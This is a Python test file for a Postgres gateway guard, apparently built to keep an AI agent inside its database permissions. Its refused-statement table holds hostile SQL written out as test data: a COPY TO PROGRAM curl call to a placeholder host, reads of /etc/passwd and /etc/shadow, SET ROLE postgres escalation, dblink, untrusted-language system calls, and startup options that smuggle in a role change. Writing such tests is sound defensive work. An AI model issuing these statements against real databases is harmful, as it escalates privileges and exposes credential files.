"""pg_guard: what the gateway refuses whatever the policy — a table of statements and
startup packets, and properties over arbitrary text."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from airlock.broker.pg_guard import escapes, startup_problem

REFUSED = [
    ("SET ROLE postgres", "another role"),
    ("set local role admin", "another role"),
    ("SET SESSION AUTHORIZATION postgres", "another role"),
    ("SELECT set_config('role', 'postgres', false)", "another role"),
    ("SELECT set_config(current_setting('x'), 'postgres', false)", "cannot read"),
    ("ALTER SYSTEM SET fsync = off", "ALTER SYSTEM"),
    ("SELECT pg_reload_conf()", "configuration"),
    ("COPY t TO PROGRAM 'curl evil'", "PROGRAM"),
    ("COPY t FROM '/etc/passwd'", "file on the database server"),
    ("COPY (SELECT 1) TO '/tmp/x'", "file on the database server"),
    ("SELECT lo_import('/etc/shadow')", "lo_import"),
    ("SELECT pg_catalog.lo_export(1, '/tmp/x')", "lo_export"),
    ("SELECT pg_read_file('/etc/passwd')", "reads a file"),
    ("SELECT pg_ls_dir('.')", "lists a directory"),
    ("CREATE EXTENSION IF NOT EXISTS dblink", "CREATE EXTENSION"),
    ("LOAD 'plugin'", "LOAD"),
    ("SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", "another server"),
    ("SELECT dblink_exec('host=x', 'DROP TABLE t')", "another server"),
    ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", "another server"),
    ("CREATE USER MAPPING FOR me SERVER s OPTIONS (user 'x')", "credentials"),
    ("IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local", "another server"),
    ("CREATE FOREIGN TABLE f (a int) SERVER s", "another server"),
    ("SELECT pg_terminate_backend(42)", "ends another session"),
    ("SELECT pg_cancel_backend(pid) FROM pg_stat_activity", "another session"),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'", "sandbox"),
    ("CREATE FUNCTION f() RETURNS int AS 'lib', 'sym' LANGUAGE c", "sandbox"),
    ("DO LANGUAGE plperlu 'system(1)'", "sandbox"),
    ("SELECT 1; SET ROLE postgres", "another role"),
    ("ALTER ROLE app PASSWORD 'known-to-the-agent'", "password"),
    ("ALTER USER app WITH ENCRYPTED PASSWORD 'x'", "password"),
    ("CREATE ROLE evil LOGIN", "can log in"),
    ("ALTER ROLE someone LOGIN", "can log in"),
    ("CREATE USER evil", "CREATE USER"),
]
PASSED = [
    "SELECT 1", "RESET ROLE", "RESET ALL", "SET search_path TO app",
    "SELECT set_config('search_path', 'app', false)", "COPY t FROM STDIN",
    "COPY t TO STDOUT", "DO $$ BEGIN PERFORM 1; END $$",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "BEGIN", "COMMIT",
    "SELECT role FROM users", "not sql at all (", "CREATE ROLE readers",
    "ALTER ROLE app NOLOGIN", "CREATE ROLE g NOLOGIN",
]


@pytest.mark.parametrize("sql, why", REFUSED)
def test_refused_whatever_the_policy(sql: str, why: str) -> None:
    found = escapes(sql)
    assert any(why in f for f in found), found


@pytest.mark.parametrize("sql", PASSED)
def test_left_to_the_policy(sql: str) -> None:
    assert escapes(sql) == []


@pytest.mark.parametrize("params, why", [
    ({"user": "a", "database": "d", "replication": "true"}, "replication"),
    ({"user": "a", "options": "-c role=postgres"}, "'role'"),
    ({"user": "a", "options": "--session_authorization=postgres"}, "session_authorization"),
    ({"user": "a", "options": "-crole=x"}, "'role'"),
    ({"user": "a", "options": "-d 5"}, "only -c"),
    ({"user": "a", "session_authorization": "postgres"}, "not passed on"),
    ({"user": "a", "role": "postgres"}, "not passed on"),
])
def test_startup_escapes_are_refused(params: dict[str, str], why: str) -> None:
    problem = startup_problem(params)
    assert problem is not None and why in problem


def test_ordinary_startup_packets_pass() -> None:
    assert startup_problem({"user": "bot", "database": "appdb", "application_name": "psql",
                            "client_encoding": "UTF8", "DateStyle": "ISO",
                            "options": "-c search_path=app -c statement_timeout=5000"}) is None


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_any_text_gets_an_answer(text: str) -> None:
    assert all(isinstance(why, str) for why in escapes(text))
    problem = startup_problem({"user": "u", "options": text})
    assert problem is None or problem.startswith("options")
